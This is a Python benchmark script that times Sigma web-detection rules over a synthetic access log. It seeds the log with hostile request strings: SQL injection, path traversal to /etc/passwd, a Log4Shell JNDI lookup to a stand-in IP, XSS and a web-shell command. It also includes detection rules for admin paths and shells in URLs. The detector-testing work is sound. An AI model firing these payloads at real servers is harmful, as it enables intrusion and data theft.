"""Sigma detector throughput: ~20 web rules over a synthetic 1M-row access-log batch,
or the bundled rule pack over the batches of real log files.

    .venv/bin/python -m bench.bench_sigma [--rows 1000000] [--batch 0] [--repeat 3]
    .venv/bin/python -m bench.bench_sigma --log bench/out/auth_1M.log [--log ...]

Rules: SigmaHQ's webserver/apache/nginx rules (from ../shared/datasets/sigma) plus a few
of vigil's own that exercise CIDR, regex, prefix lists and numeric comparison. Events:
Apache combined lines with ~2% attack requests, plus a third as many sshd rows the web
rules must skip. Prints wall and CPU seconds and rule-evaluations (rules x events, the
events being the web rows) per second, for `process` (alerts) and `matches`.

With `--log`, each file is parsed as `vigil analyze` parses it (its Batches kept in
memory) and `process_with_matches` of the bundled pack, as the detection stage calls it,
runs over them: CPU seconds (best of `--repeat`), events per CPU-second, matching rows
and alerts. Set POLARS_MAX_THREADS=1 for figures that do not depend on the load of the
other core.
"""

from __future__ import annotations

import argparse
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import numpy as np
import polars as pl

from vigil.detect.sigma.compiler import compile_rules
from vigil.detect.sigma.detector import SigmaDetector
from vigil.detect.sigma.loader import load_rules, load_rules_text
from vigil.schema.batch import conform

SIGMAHQ = Path(__file__).parents[1] / ".." / "shared" / "datasets" / "sigma" / "rules" / "web"
EXTRA = """\
title: Request from a documentation network
id: b0000000-0000-4000-8000-000000000001
logsource: {category: webserver}
detection:
    sel: {c-ip|cidr: [203.0.113.0/24, 2001:db8::/32]}
    bad: {sc-status|gte: 500}
    condition: sel and bad
---
title: Numeric id probing
id: b0000000-0000-4000-8000-000000000002
logsource: {category: webserver}
detection:
    sel: {cs-uri-query|re: 'id=\\d{6,}'}
    condition: sel
---
title: Admin paths
id: b0000000-0000-4000-8000-000000000003
logsource: {category: webserver}
detection:
    sel: {cs-uri-stem|startswith: [/wp-admin, /phpmyadmin, /manager/html, /admin]}
    condition: sel
---
title: Shell in URL
id: b0000000-0000-4000-8000-000000000004
logsource: {category: webserver}
detection:
    sel: {c-uri|contains|all: [/bin/, sh]}
    condition: sel
"""

NORMAL_PATHS = [f"/static/app{i}.js" for i in range(200)] + [f"/blog/post-{i}" for i in range(800)]
ATTACKS = [
    "/index.php?id=1%27%20union%20select%201,2,3--",
    "/cgi-bin/../../../etc/passwd",
    "/?q=${jndi:ldap://198.51.100.5/a}",
    "/admin/config.php",
    "/search?q=<script>alert(1)</script>",
    "/shell.php?cmd=whoami",
    "/item?id=12345678",
    "/.git/config",
]
AGENTS = ["Mozilla/5.0 (X11; Linux x86_64)", "curl/8.5.0", "sqlmap/1.8", "Nikto/2.5.0"]


def web_events(n: int, seed: int = 7) -> pl.DataFrame:
    rng = np.random.default_rng(seed)
    attack = rng.random(n) < 0.02
    path = np.where(
        attack,
        np.array(ATTACKS)[rng.integers(0, len(ATTACKS), n)],
        np.array(NORMAL_PATHS)[rng.integers(0, len(NORMAL_PATHS), n)],
    )
    agent = np.array(AGENTS)[np.where(attack, rng.integers(0, 4, n), rng.integers(0, 2, n))]
    ip = np.array([f"203.0.113.{i}" for i in range(256)] + [f"198.51.100.{i}" for i in range(256)])
    frame = pl.DataFrame(
        {
            "@timestamp": pl.datetime_range(
                datetime(2026, 11, 22, tzinfo=UTC),
                datetime(2026, 11, 23, tzinfo=UTC),
                interval=f"{86_400_000_000 // n}us",
                eager=True,
                time_zone="UTC",
            )[:n],
            "event.dataset": "apache",
            "source.ip": ip[rng.integers(0, len(ip), n)],
            "http.request.method": np.where(rng.random(n) < 0.9, "GET", "POST"),
            "url.original": path,
            "http.response.status_code": np.where(attack, 404, 200).astype(np.int32),
            "user_agent.original": agent,
            "log.file.path": "access.log",
            "log.file.line": np.arange(1, n + 1, dtype=np.uint64),
        }
    )
    frame = frame.with_columns(
        pl.col("url.original").str.replace(r"\?.*$", "").alias("url.path"),
        pl.col("url.original").str.extract(r"\?(.*)$", 1).alias("url.query"),
        pl.format(
            '{} - - [22/Nov/2026:10:00:00 +0000] "{} {} HTTP/1.1" {} 512 "-" "{}"',
            "source.ip",
            "http.request.method",
            "url.original",
            "http.response.status_code",
            "user_agent.original",
        ).alias("message"),
    )
    ssh = frame.head(n // 3).with_columns(
        pl.lit("sshd").alias("event.dataset"),
        pl.lit("Failed password for root from 192.0.2.1 port 22 ssh2").alias("message"),
    )
    return conform(pl.concat([frame, ssh]))


def run(
    detector: SigmaDetector, batch: pl.DataFrame, size: int, what: str
) -> tuple[float, float, int]:
    parts = [batch] if size <= 0 else [batch.slice(i, size) for i in range(0, batch.height, size)]
    wall, cpu = time.perf_counter(), time.process_time()
    found = 0
    for part in parts:
        if what == "process":
            found += len(detector.process(part))
        else:
            found += sum(f.height for f in detector.matches(part).values())
    return time.perf_counter() - wall, time.process_time() - cpu, found


def log_batches(path: str) -> list[pl.DataFrame]:
    """The Batches `vigil analyze` makes of a log file."""
    from vigil.pipeline.analyze import AnalyzeOptions, analyze  # noqa: PLC0415

    class Keep:
        def __init__(self) -> None:
            self.batches: list[pl.DataFrame] = []

        def consume(self, batch: pl.DataFrame) -> None:
            self.batches.append(batch)

        def close(self) -> None:
            """Nothing is held back."""

    keep = Keep()
    analyze([path], AnalyzeOptions(), sinks=[keep])
    return keep.batches


def bundled_detector() -> tuple[SigmaDetector, Any]:
    """The detector of the bundled pack, as the detection stage builds it, and the pack."""
    from vigil.detect.correlation import CorrelationEngine  # noqa: PLC0415
    from vigil.detect.rulepack import load_pack  # noqa: PLC0415

    pack = load_pack([], include_default=True, cache_dir=None)
    quiet = CorrelationEngine(pack.correlations).quiet_rules() | pack.quiet
    return SigmaDetector(pack.compiled, silent=quiet), pack


def run_logs(paths: list[str], repeat: int) -> None:
    detector, pack = bundled_detector()
    print(f"bundled pack: {len(pack.compiled)} rules")
    for path in paths:
        batches = log_batches(path)
        rows_in = sum(b.height for b in batches)
        best = None
        for _ in range(repeat):
            wall, cpu = time.perf_counter(), time.process_time()
            found = [detector.process_with_matches(b) for b in batches]
            wall, cpu = time.perf_counter() - wall, time.process_time() - cpu
            best = (wall, cpu) if best is None or cpu < best[1] else best
        assert best is not None
        alerts = sum(len(a) for a, _ in found)
        rows = sum(f.height for _, m in found for f in m.values())
        print(
            f"{Path(path).name}: {len(batches)} batches, {rows_in:,} rows: "
            f"cpu {best[1]:.3f}s wall {best[0]:.3f}s (best of {repeat} by CPU), "
            f"{rows_in / best[1] / 1e6:.2f} M rows per CPU-s; "
            f"{rows:,} matching rows, {alerts:,} alerts"
        )


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--rows", type=int, default=1_000_000)
    ap.add_argument("--batch", type=int, default=0, help="rows per batch; 0 = one batch")
    ap.add_argument("--repeat", type=int, default=3)
    ap.add_argument("--log", action="append", help="run the bundled pack on this log's batches")
    args = ap.parse_args()
    if args.log:
        run_logs(args.log, args.repeat)
        return

    loaded = load_rules([SIGMAHQ])
    extra = load_rules_text(EXTRA, "bench-extra")
    rules, unsupported = compile_rules(loaded.rules + extra.rules)
    rules = [r for r in rules if r.logsource.name == "webserver"]
    print(f"rules: {len(rules)} web rules compiled, {len(unsupported)} unsupported (not web)")
    batch = web_events(args.rows)
    web_rows = batch.filter(pl.col("event.dataset") == "apache").height
    print(f"batch: {batch.height:,} rows ({web_rows:,} web), batch size {args.batch or 'all'}")
    detector = SigmaDetector(rules)
    for what in ("process", "matches"):
        best: tuple[float, float, int] | None = None
        for _ in range(args.repeat):
            result = run(detector, batch, args.batch, what)
            best = result if best is None or result[0] < best[0] else best
        assert best is not None
        wall, cpu, found = best
        evals = len(rules) * web_rows
        unit = "alerts" if what == "process" else "matched rows"
        print(
            f"{what:8s} wall {wall:6.3f}s cpu {cpu:6.3f}s  "
            f"{evals / wall / 1e6:6.1f} M rule-events/s wall, "
            f"{evals / cpu / 1e6:6.1f} M per CPU-s  "
            f"({web_rows / wall / 1e6:.2f} M events/s; {found:,} {unit})"
        )


if __name__ == "__main__":
    main()
